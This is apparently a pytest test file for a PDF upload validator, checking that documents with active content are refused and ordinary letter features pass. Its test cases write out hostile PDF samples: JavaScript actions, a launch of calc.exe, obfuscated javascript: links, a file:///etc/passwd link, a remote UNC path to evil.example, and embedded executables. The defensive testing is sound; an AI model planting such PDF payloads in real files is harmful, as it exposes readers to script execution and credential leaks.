"""A PDF that would do something is refused, wherever in it that stands; what a letter may do is let through."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    ByteStringObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from socx.core.errors import Invalid
from socx.files.actions import ATTACHED
from socx.files.intake import take_in
from socx.files.kinds import PROGRAM
from tests.files import samples


def written(value: Any) -> Any:
    """Plain values as a PDF writes them: texts that start with a slash are names."""
    if isinstance(value, dict):
        return DictionaryObject({NameObject(name): written(one) for name, one in value.items()})
    if isinstance(value, list):
        return ArrayObject([written(one) for one in value])
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    return NumberObject(value) if isinstance(value, int) else value


SCRIPT = {"/S": "/JavaScript", "/JS": "app.alert(1)"}
PROGRAM_STARTS = {"/S": "/Launch", "/F": "calc.exe"}
A_PAGE = {"/S": "/GoTo", "/D": [0, "/Fit"]}


def file_inside(writer: PdfWriter) -> Any:
    content = StreamObject()
    content.set_data(b"MZ")
    return written({"/Type": "/Filespec", "/F": "tool.exe", "/EF": {"/F": writer._add_object(content)}})


def on_page(**annotation: Any) -> Callable[[PdfWriter], None]:
    """An annotation on the first page; its parts may be made with the writer."""

    def change(writer: PdfWriter) -> None:
        parts = {f"/{name}": one(writer) if callable(one) else written(one) for name, one in annotation.items()}
        place = ArrayObject([FloatObject(n) for n in (0, 0, 90, 20)])
        writer.pages[0][NameObject("/Annots")] = ArrayObject([
            writer._add_object(DictionaryObject({NameObject(k): v for k, v in ({"/Rect": place} | parts).items()}))
        ])  # fmt: skip

    return change


def at_root(**entries: Any) -> Callable[[PdfWriter], None]:
    return lambda writer: writer.root_object.update(written({f"/{name}": one for name, one in entries.items()}))


def far(value: dict[str, Any]) -> Callable[[PdfWriter], Any]:
    """A value that stands somewhere else in the file."""
    return lambda writer: writer._add_object(written(value))


def when_the_page_opens(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/AA")] = written({"/O": SCRIPT})


def in_a_bookmark(writer: PdfWriter) -> None:
    first = writer._add_object(written({"/Title": "Annex", "/A": SCRIPT}))
    writer.root_object[NameObject("/Outlines")] = DictionaryObject({NameObject("/First"): first})


def that_nothing_leads_to(writer: PdfWriter) -> None:
    writer._add_object(written(SCRIPT))


HARMFUL = {
    "when the page opens": (when_the_page_opens, PROGRAM),
    "when the document is printed": (at_root(AA={"/WP": SCRIPT}), PROGRAM),
    "in the table of names": (at_root(Names={"/JavaScript": {"/Names": ["a", {"/S": "/Named"}]}}), PROGRAM),
    "behind a link": (on_page(Subtype="/Link", A=SCRIPT), PROGRAM),
    "behind a link, elsewhere in the file": (on_page(Subtype="/Link", A=far(SCRIPT)), PROGRAM),
    "after another action": (on_page(Subtype="/Link", A=A_PAGE | {"/Next": [A_PAGE, SCRIPT]}), PROGRAM),
    "when a field is left": (on_page(Subtype="/Widget", FT="/Tx", AA={"/Bl": SCRIPT}), PROGRAM),
    "in a bookmark": (in_a_bookmark, PROGRAM),
    "where nothing leads to": (that_nothing_leads_to, PROGRAM),
    "a program behind a link": (on_page(Subtype="/Link", A=PROGRAM_STARTS), PROGRAM),
    "a form that sends itself": (on_page(Subtype="/Widget", A={"/S": "/SubmitForm", "/F": "http://x"}), PROGRAM),
    "a form with a program of its own": (at_root(AcroForm={"/XFA": "<xdp/>"}), PROGRAM),
    "a script as an address": (on_page(Subtype="/Link", A={"/S": "/URI", "/URI": "javascript:alert(1)"}), PROGRAM),
    "a script after blanks": (on_page(Subtype="/Link", A={"/S": "/URI", "/URI": " java\tscript:alert(1)"}), PROGRAM),
    "a script beside signs that no text holds": (
        on_page(Subtype="/Link", A={"/S": "/URI", "/URI": ByteStringObject(b"javascript:alert(1)//\x7f")}), PROGRAM,
    ),
    "a file of the reader": (on_page(Subtype="/Link", A={"/S": "/URI", "/URI": "file:///etc/passwd"}), PROGRAM),
    "a computer that asks who is there": (
        on_page(Subtype="/Link", A={"/S": "/GoToR", "/F": r"\\evil.example\a.pdf"}), PROGRAM,
    ),
    "media with a script": (on_page(Subtype="/RichMedia", RichMediaContent={"/Assets": {}}), PROGRAM),
    "a file pinned to a page": (on_page(Subtype="/FileAttachment", FS=file_inside), ATTACHED),
    "a file that goes with the document": (
        lambda writer: writer.root_object.update({NameObject("/AF"): ArrayObject([file_inside(writer)])}), ATTACHED,
    ),
}  # fmt: skip


@pytest.mark.parametrize("where", HARMFUL)
def test_what_would_act_is_refused(where: str) -> None:
    change, sentence = HARMFUL[where]

    with pytest.raises(Invalid) as refused:
        take_in(samples.pdf(change=change), "a.pdf")

    assert refused.value.errors == {"file": sentence}


def test_a_name_in_disguise_is_read_as_what_it_means() -> None:
    content = samples.pdf(change=on_page(Subtype="/Link", A=SCRIPT))
    assert content.count(b"/JS") == 1

    with pytest.raises(Invalid) as refused:
        take_in(content.replace(b"/JavaScript", b"/J#61va#53cript").replace(b"/JS", b"/#4AS"), "a.pdf")

    assert refused.value.errors == {"file": PROGRAM}


HARMLESS = {
    "a link to the web": on_page(Subtype="/Link", A={"/S": "/URI", "/URI": "https://example.org/a?b=c:d"}),
    "a link to a mailbox": on_page(Subtype="/Link", A={"/S": "/URI", "/URI": "mailto:ana@example.org"}),
    "a link without its kind": on_page(Subtype="/Link", A={"/S": "/URI", "/URI": "www.example.org"}),
    "a link to a page": on_page(Subtype="/Link", A=A_PAGE),
    "a link to a file beside": on_page(Subtype="/Link", A={"/S": "/GoToR", "/F": "annex.pdf"}),
    "a page to begin with": at_root(OpenAction=A_PAGE),
    "a note on the page": on_page(Subtype="/Text", Contents="Please sign here", F=4),
    "a field to fill in": on_page(Subtype="/Widget", FT="/Tx", T="name", V="javascript is mentioned"),
}


@pytest.mark.parametrize("what", HARMLESS)
def test_what_a_letter_may_do_is_let_through(what: str) -> None:
    taken = take_in(samples.pdf(change=HARMLESS[what]), "a.pdf")

    assert "Official letter" in taken.text
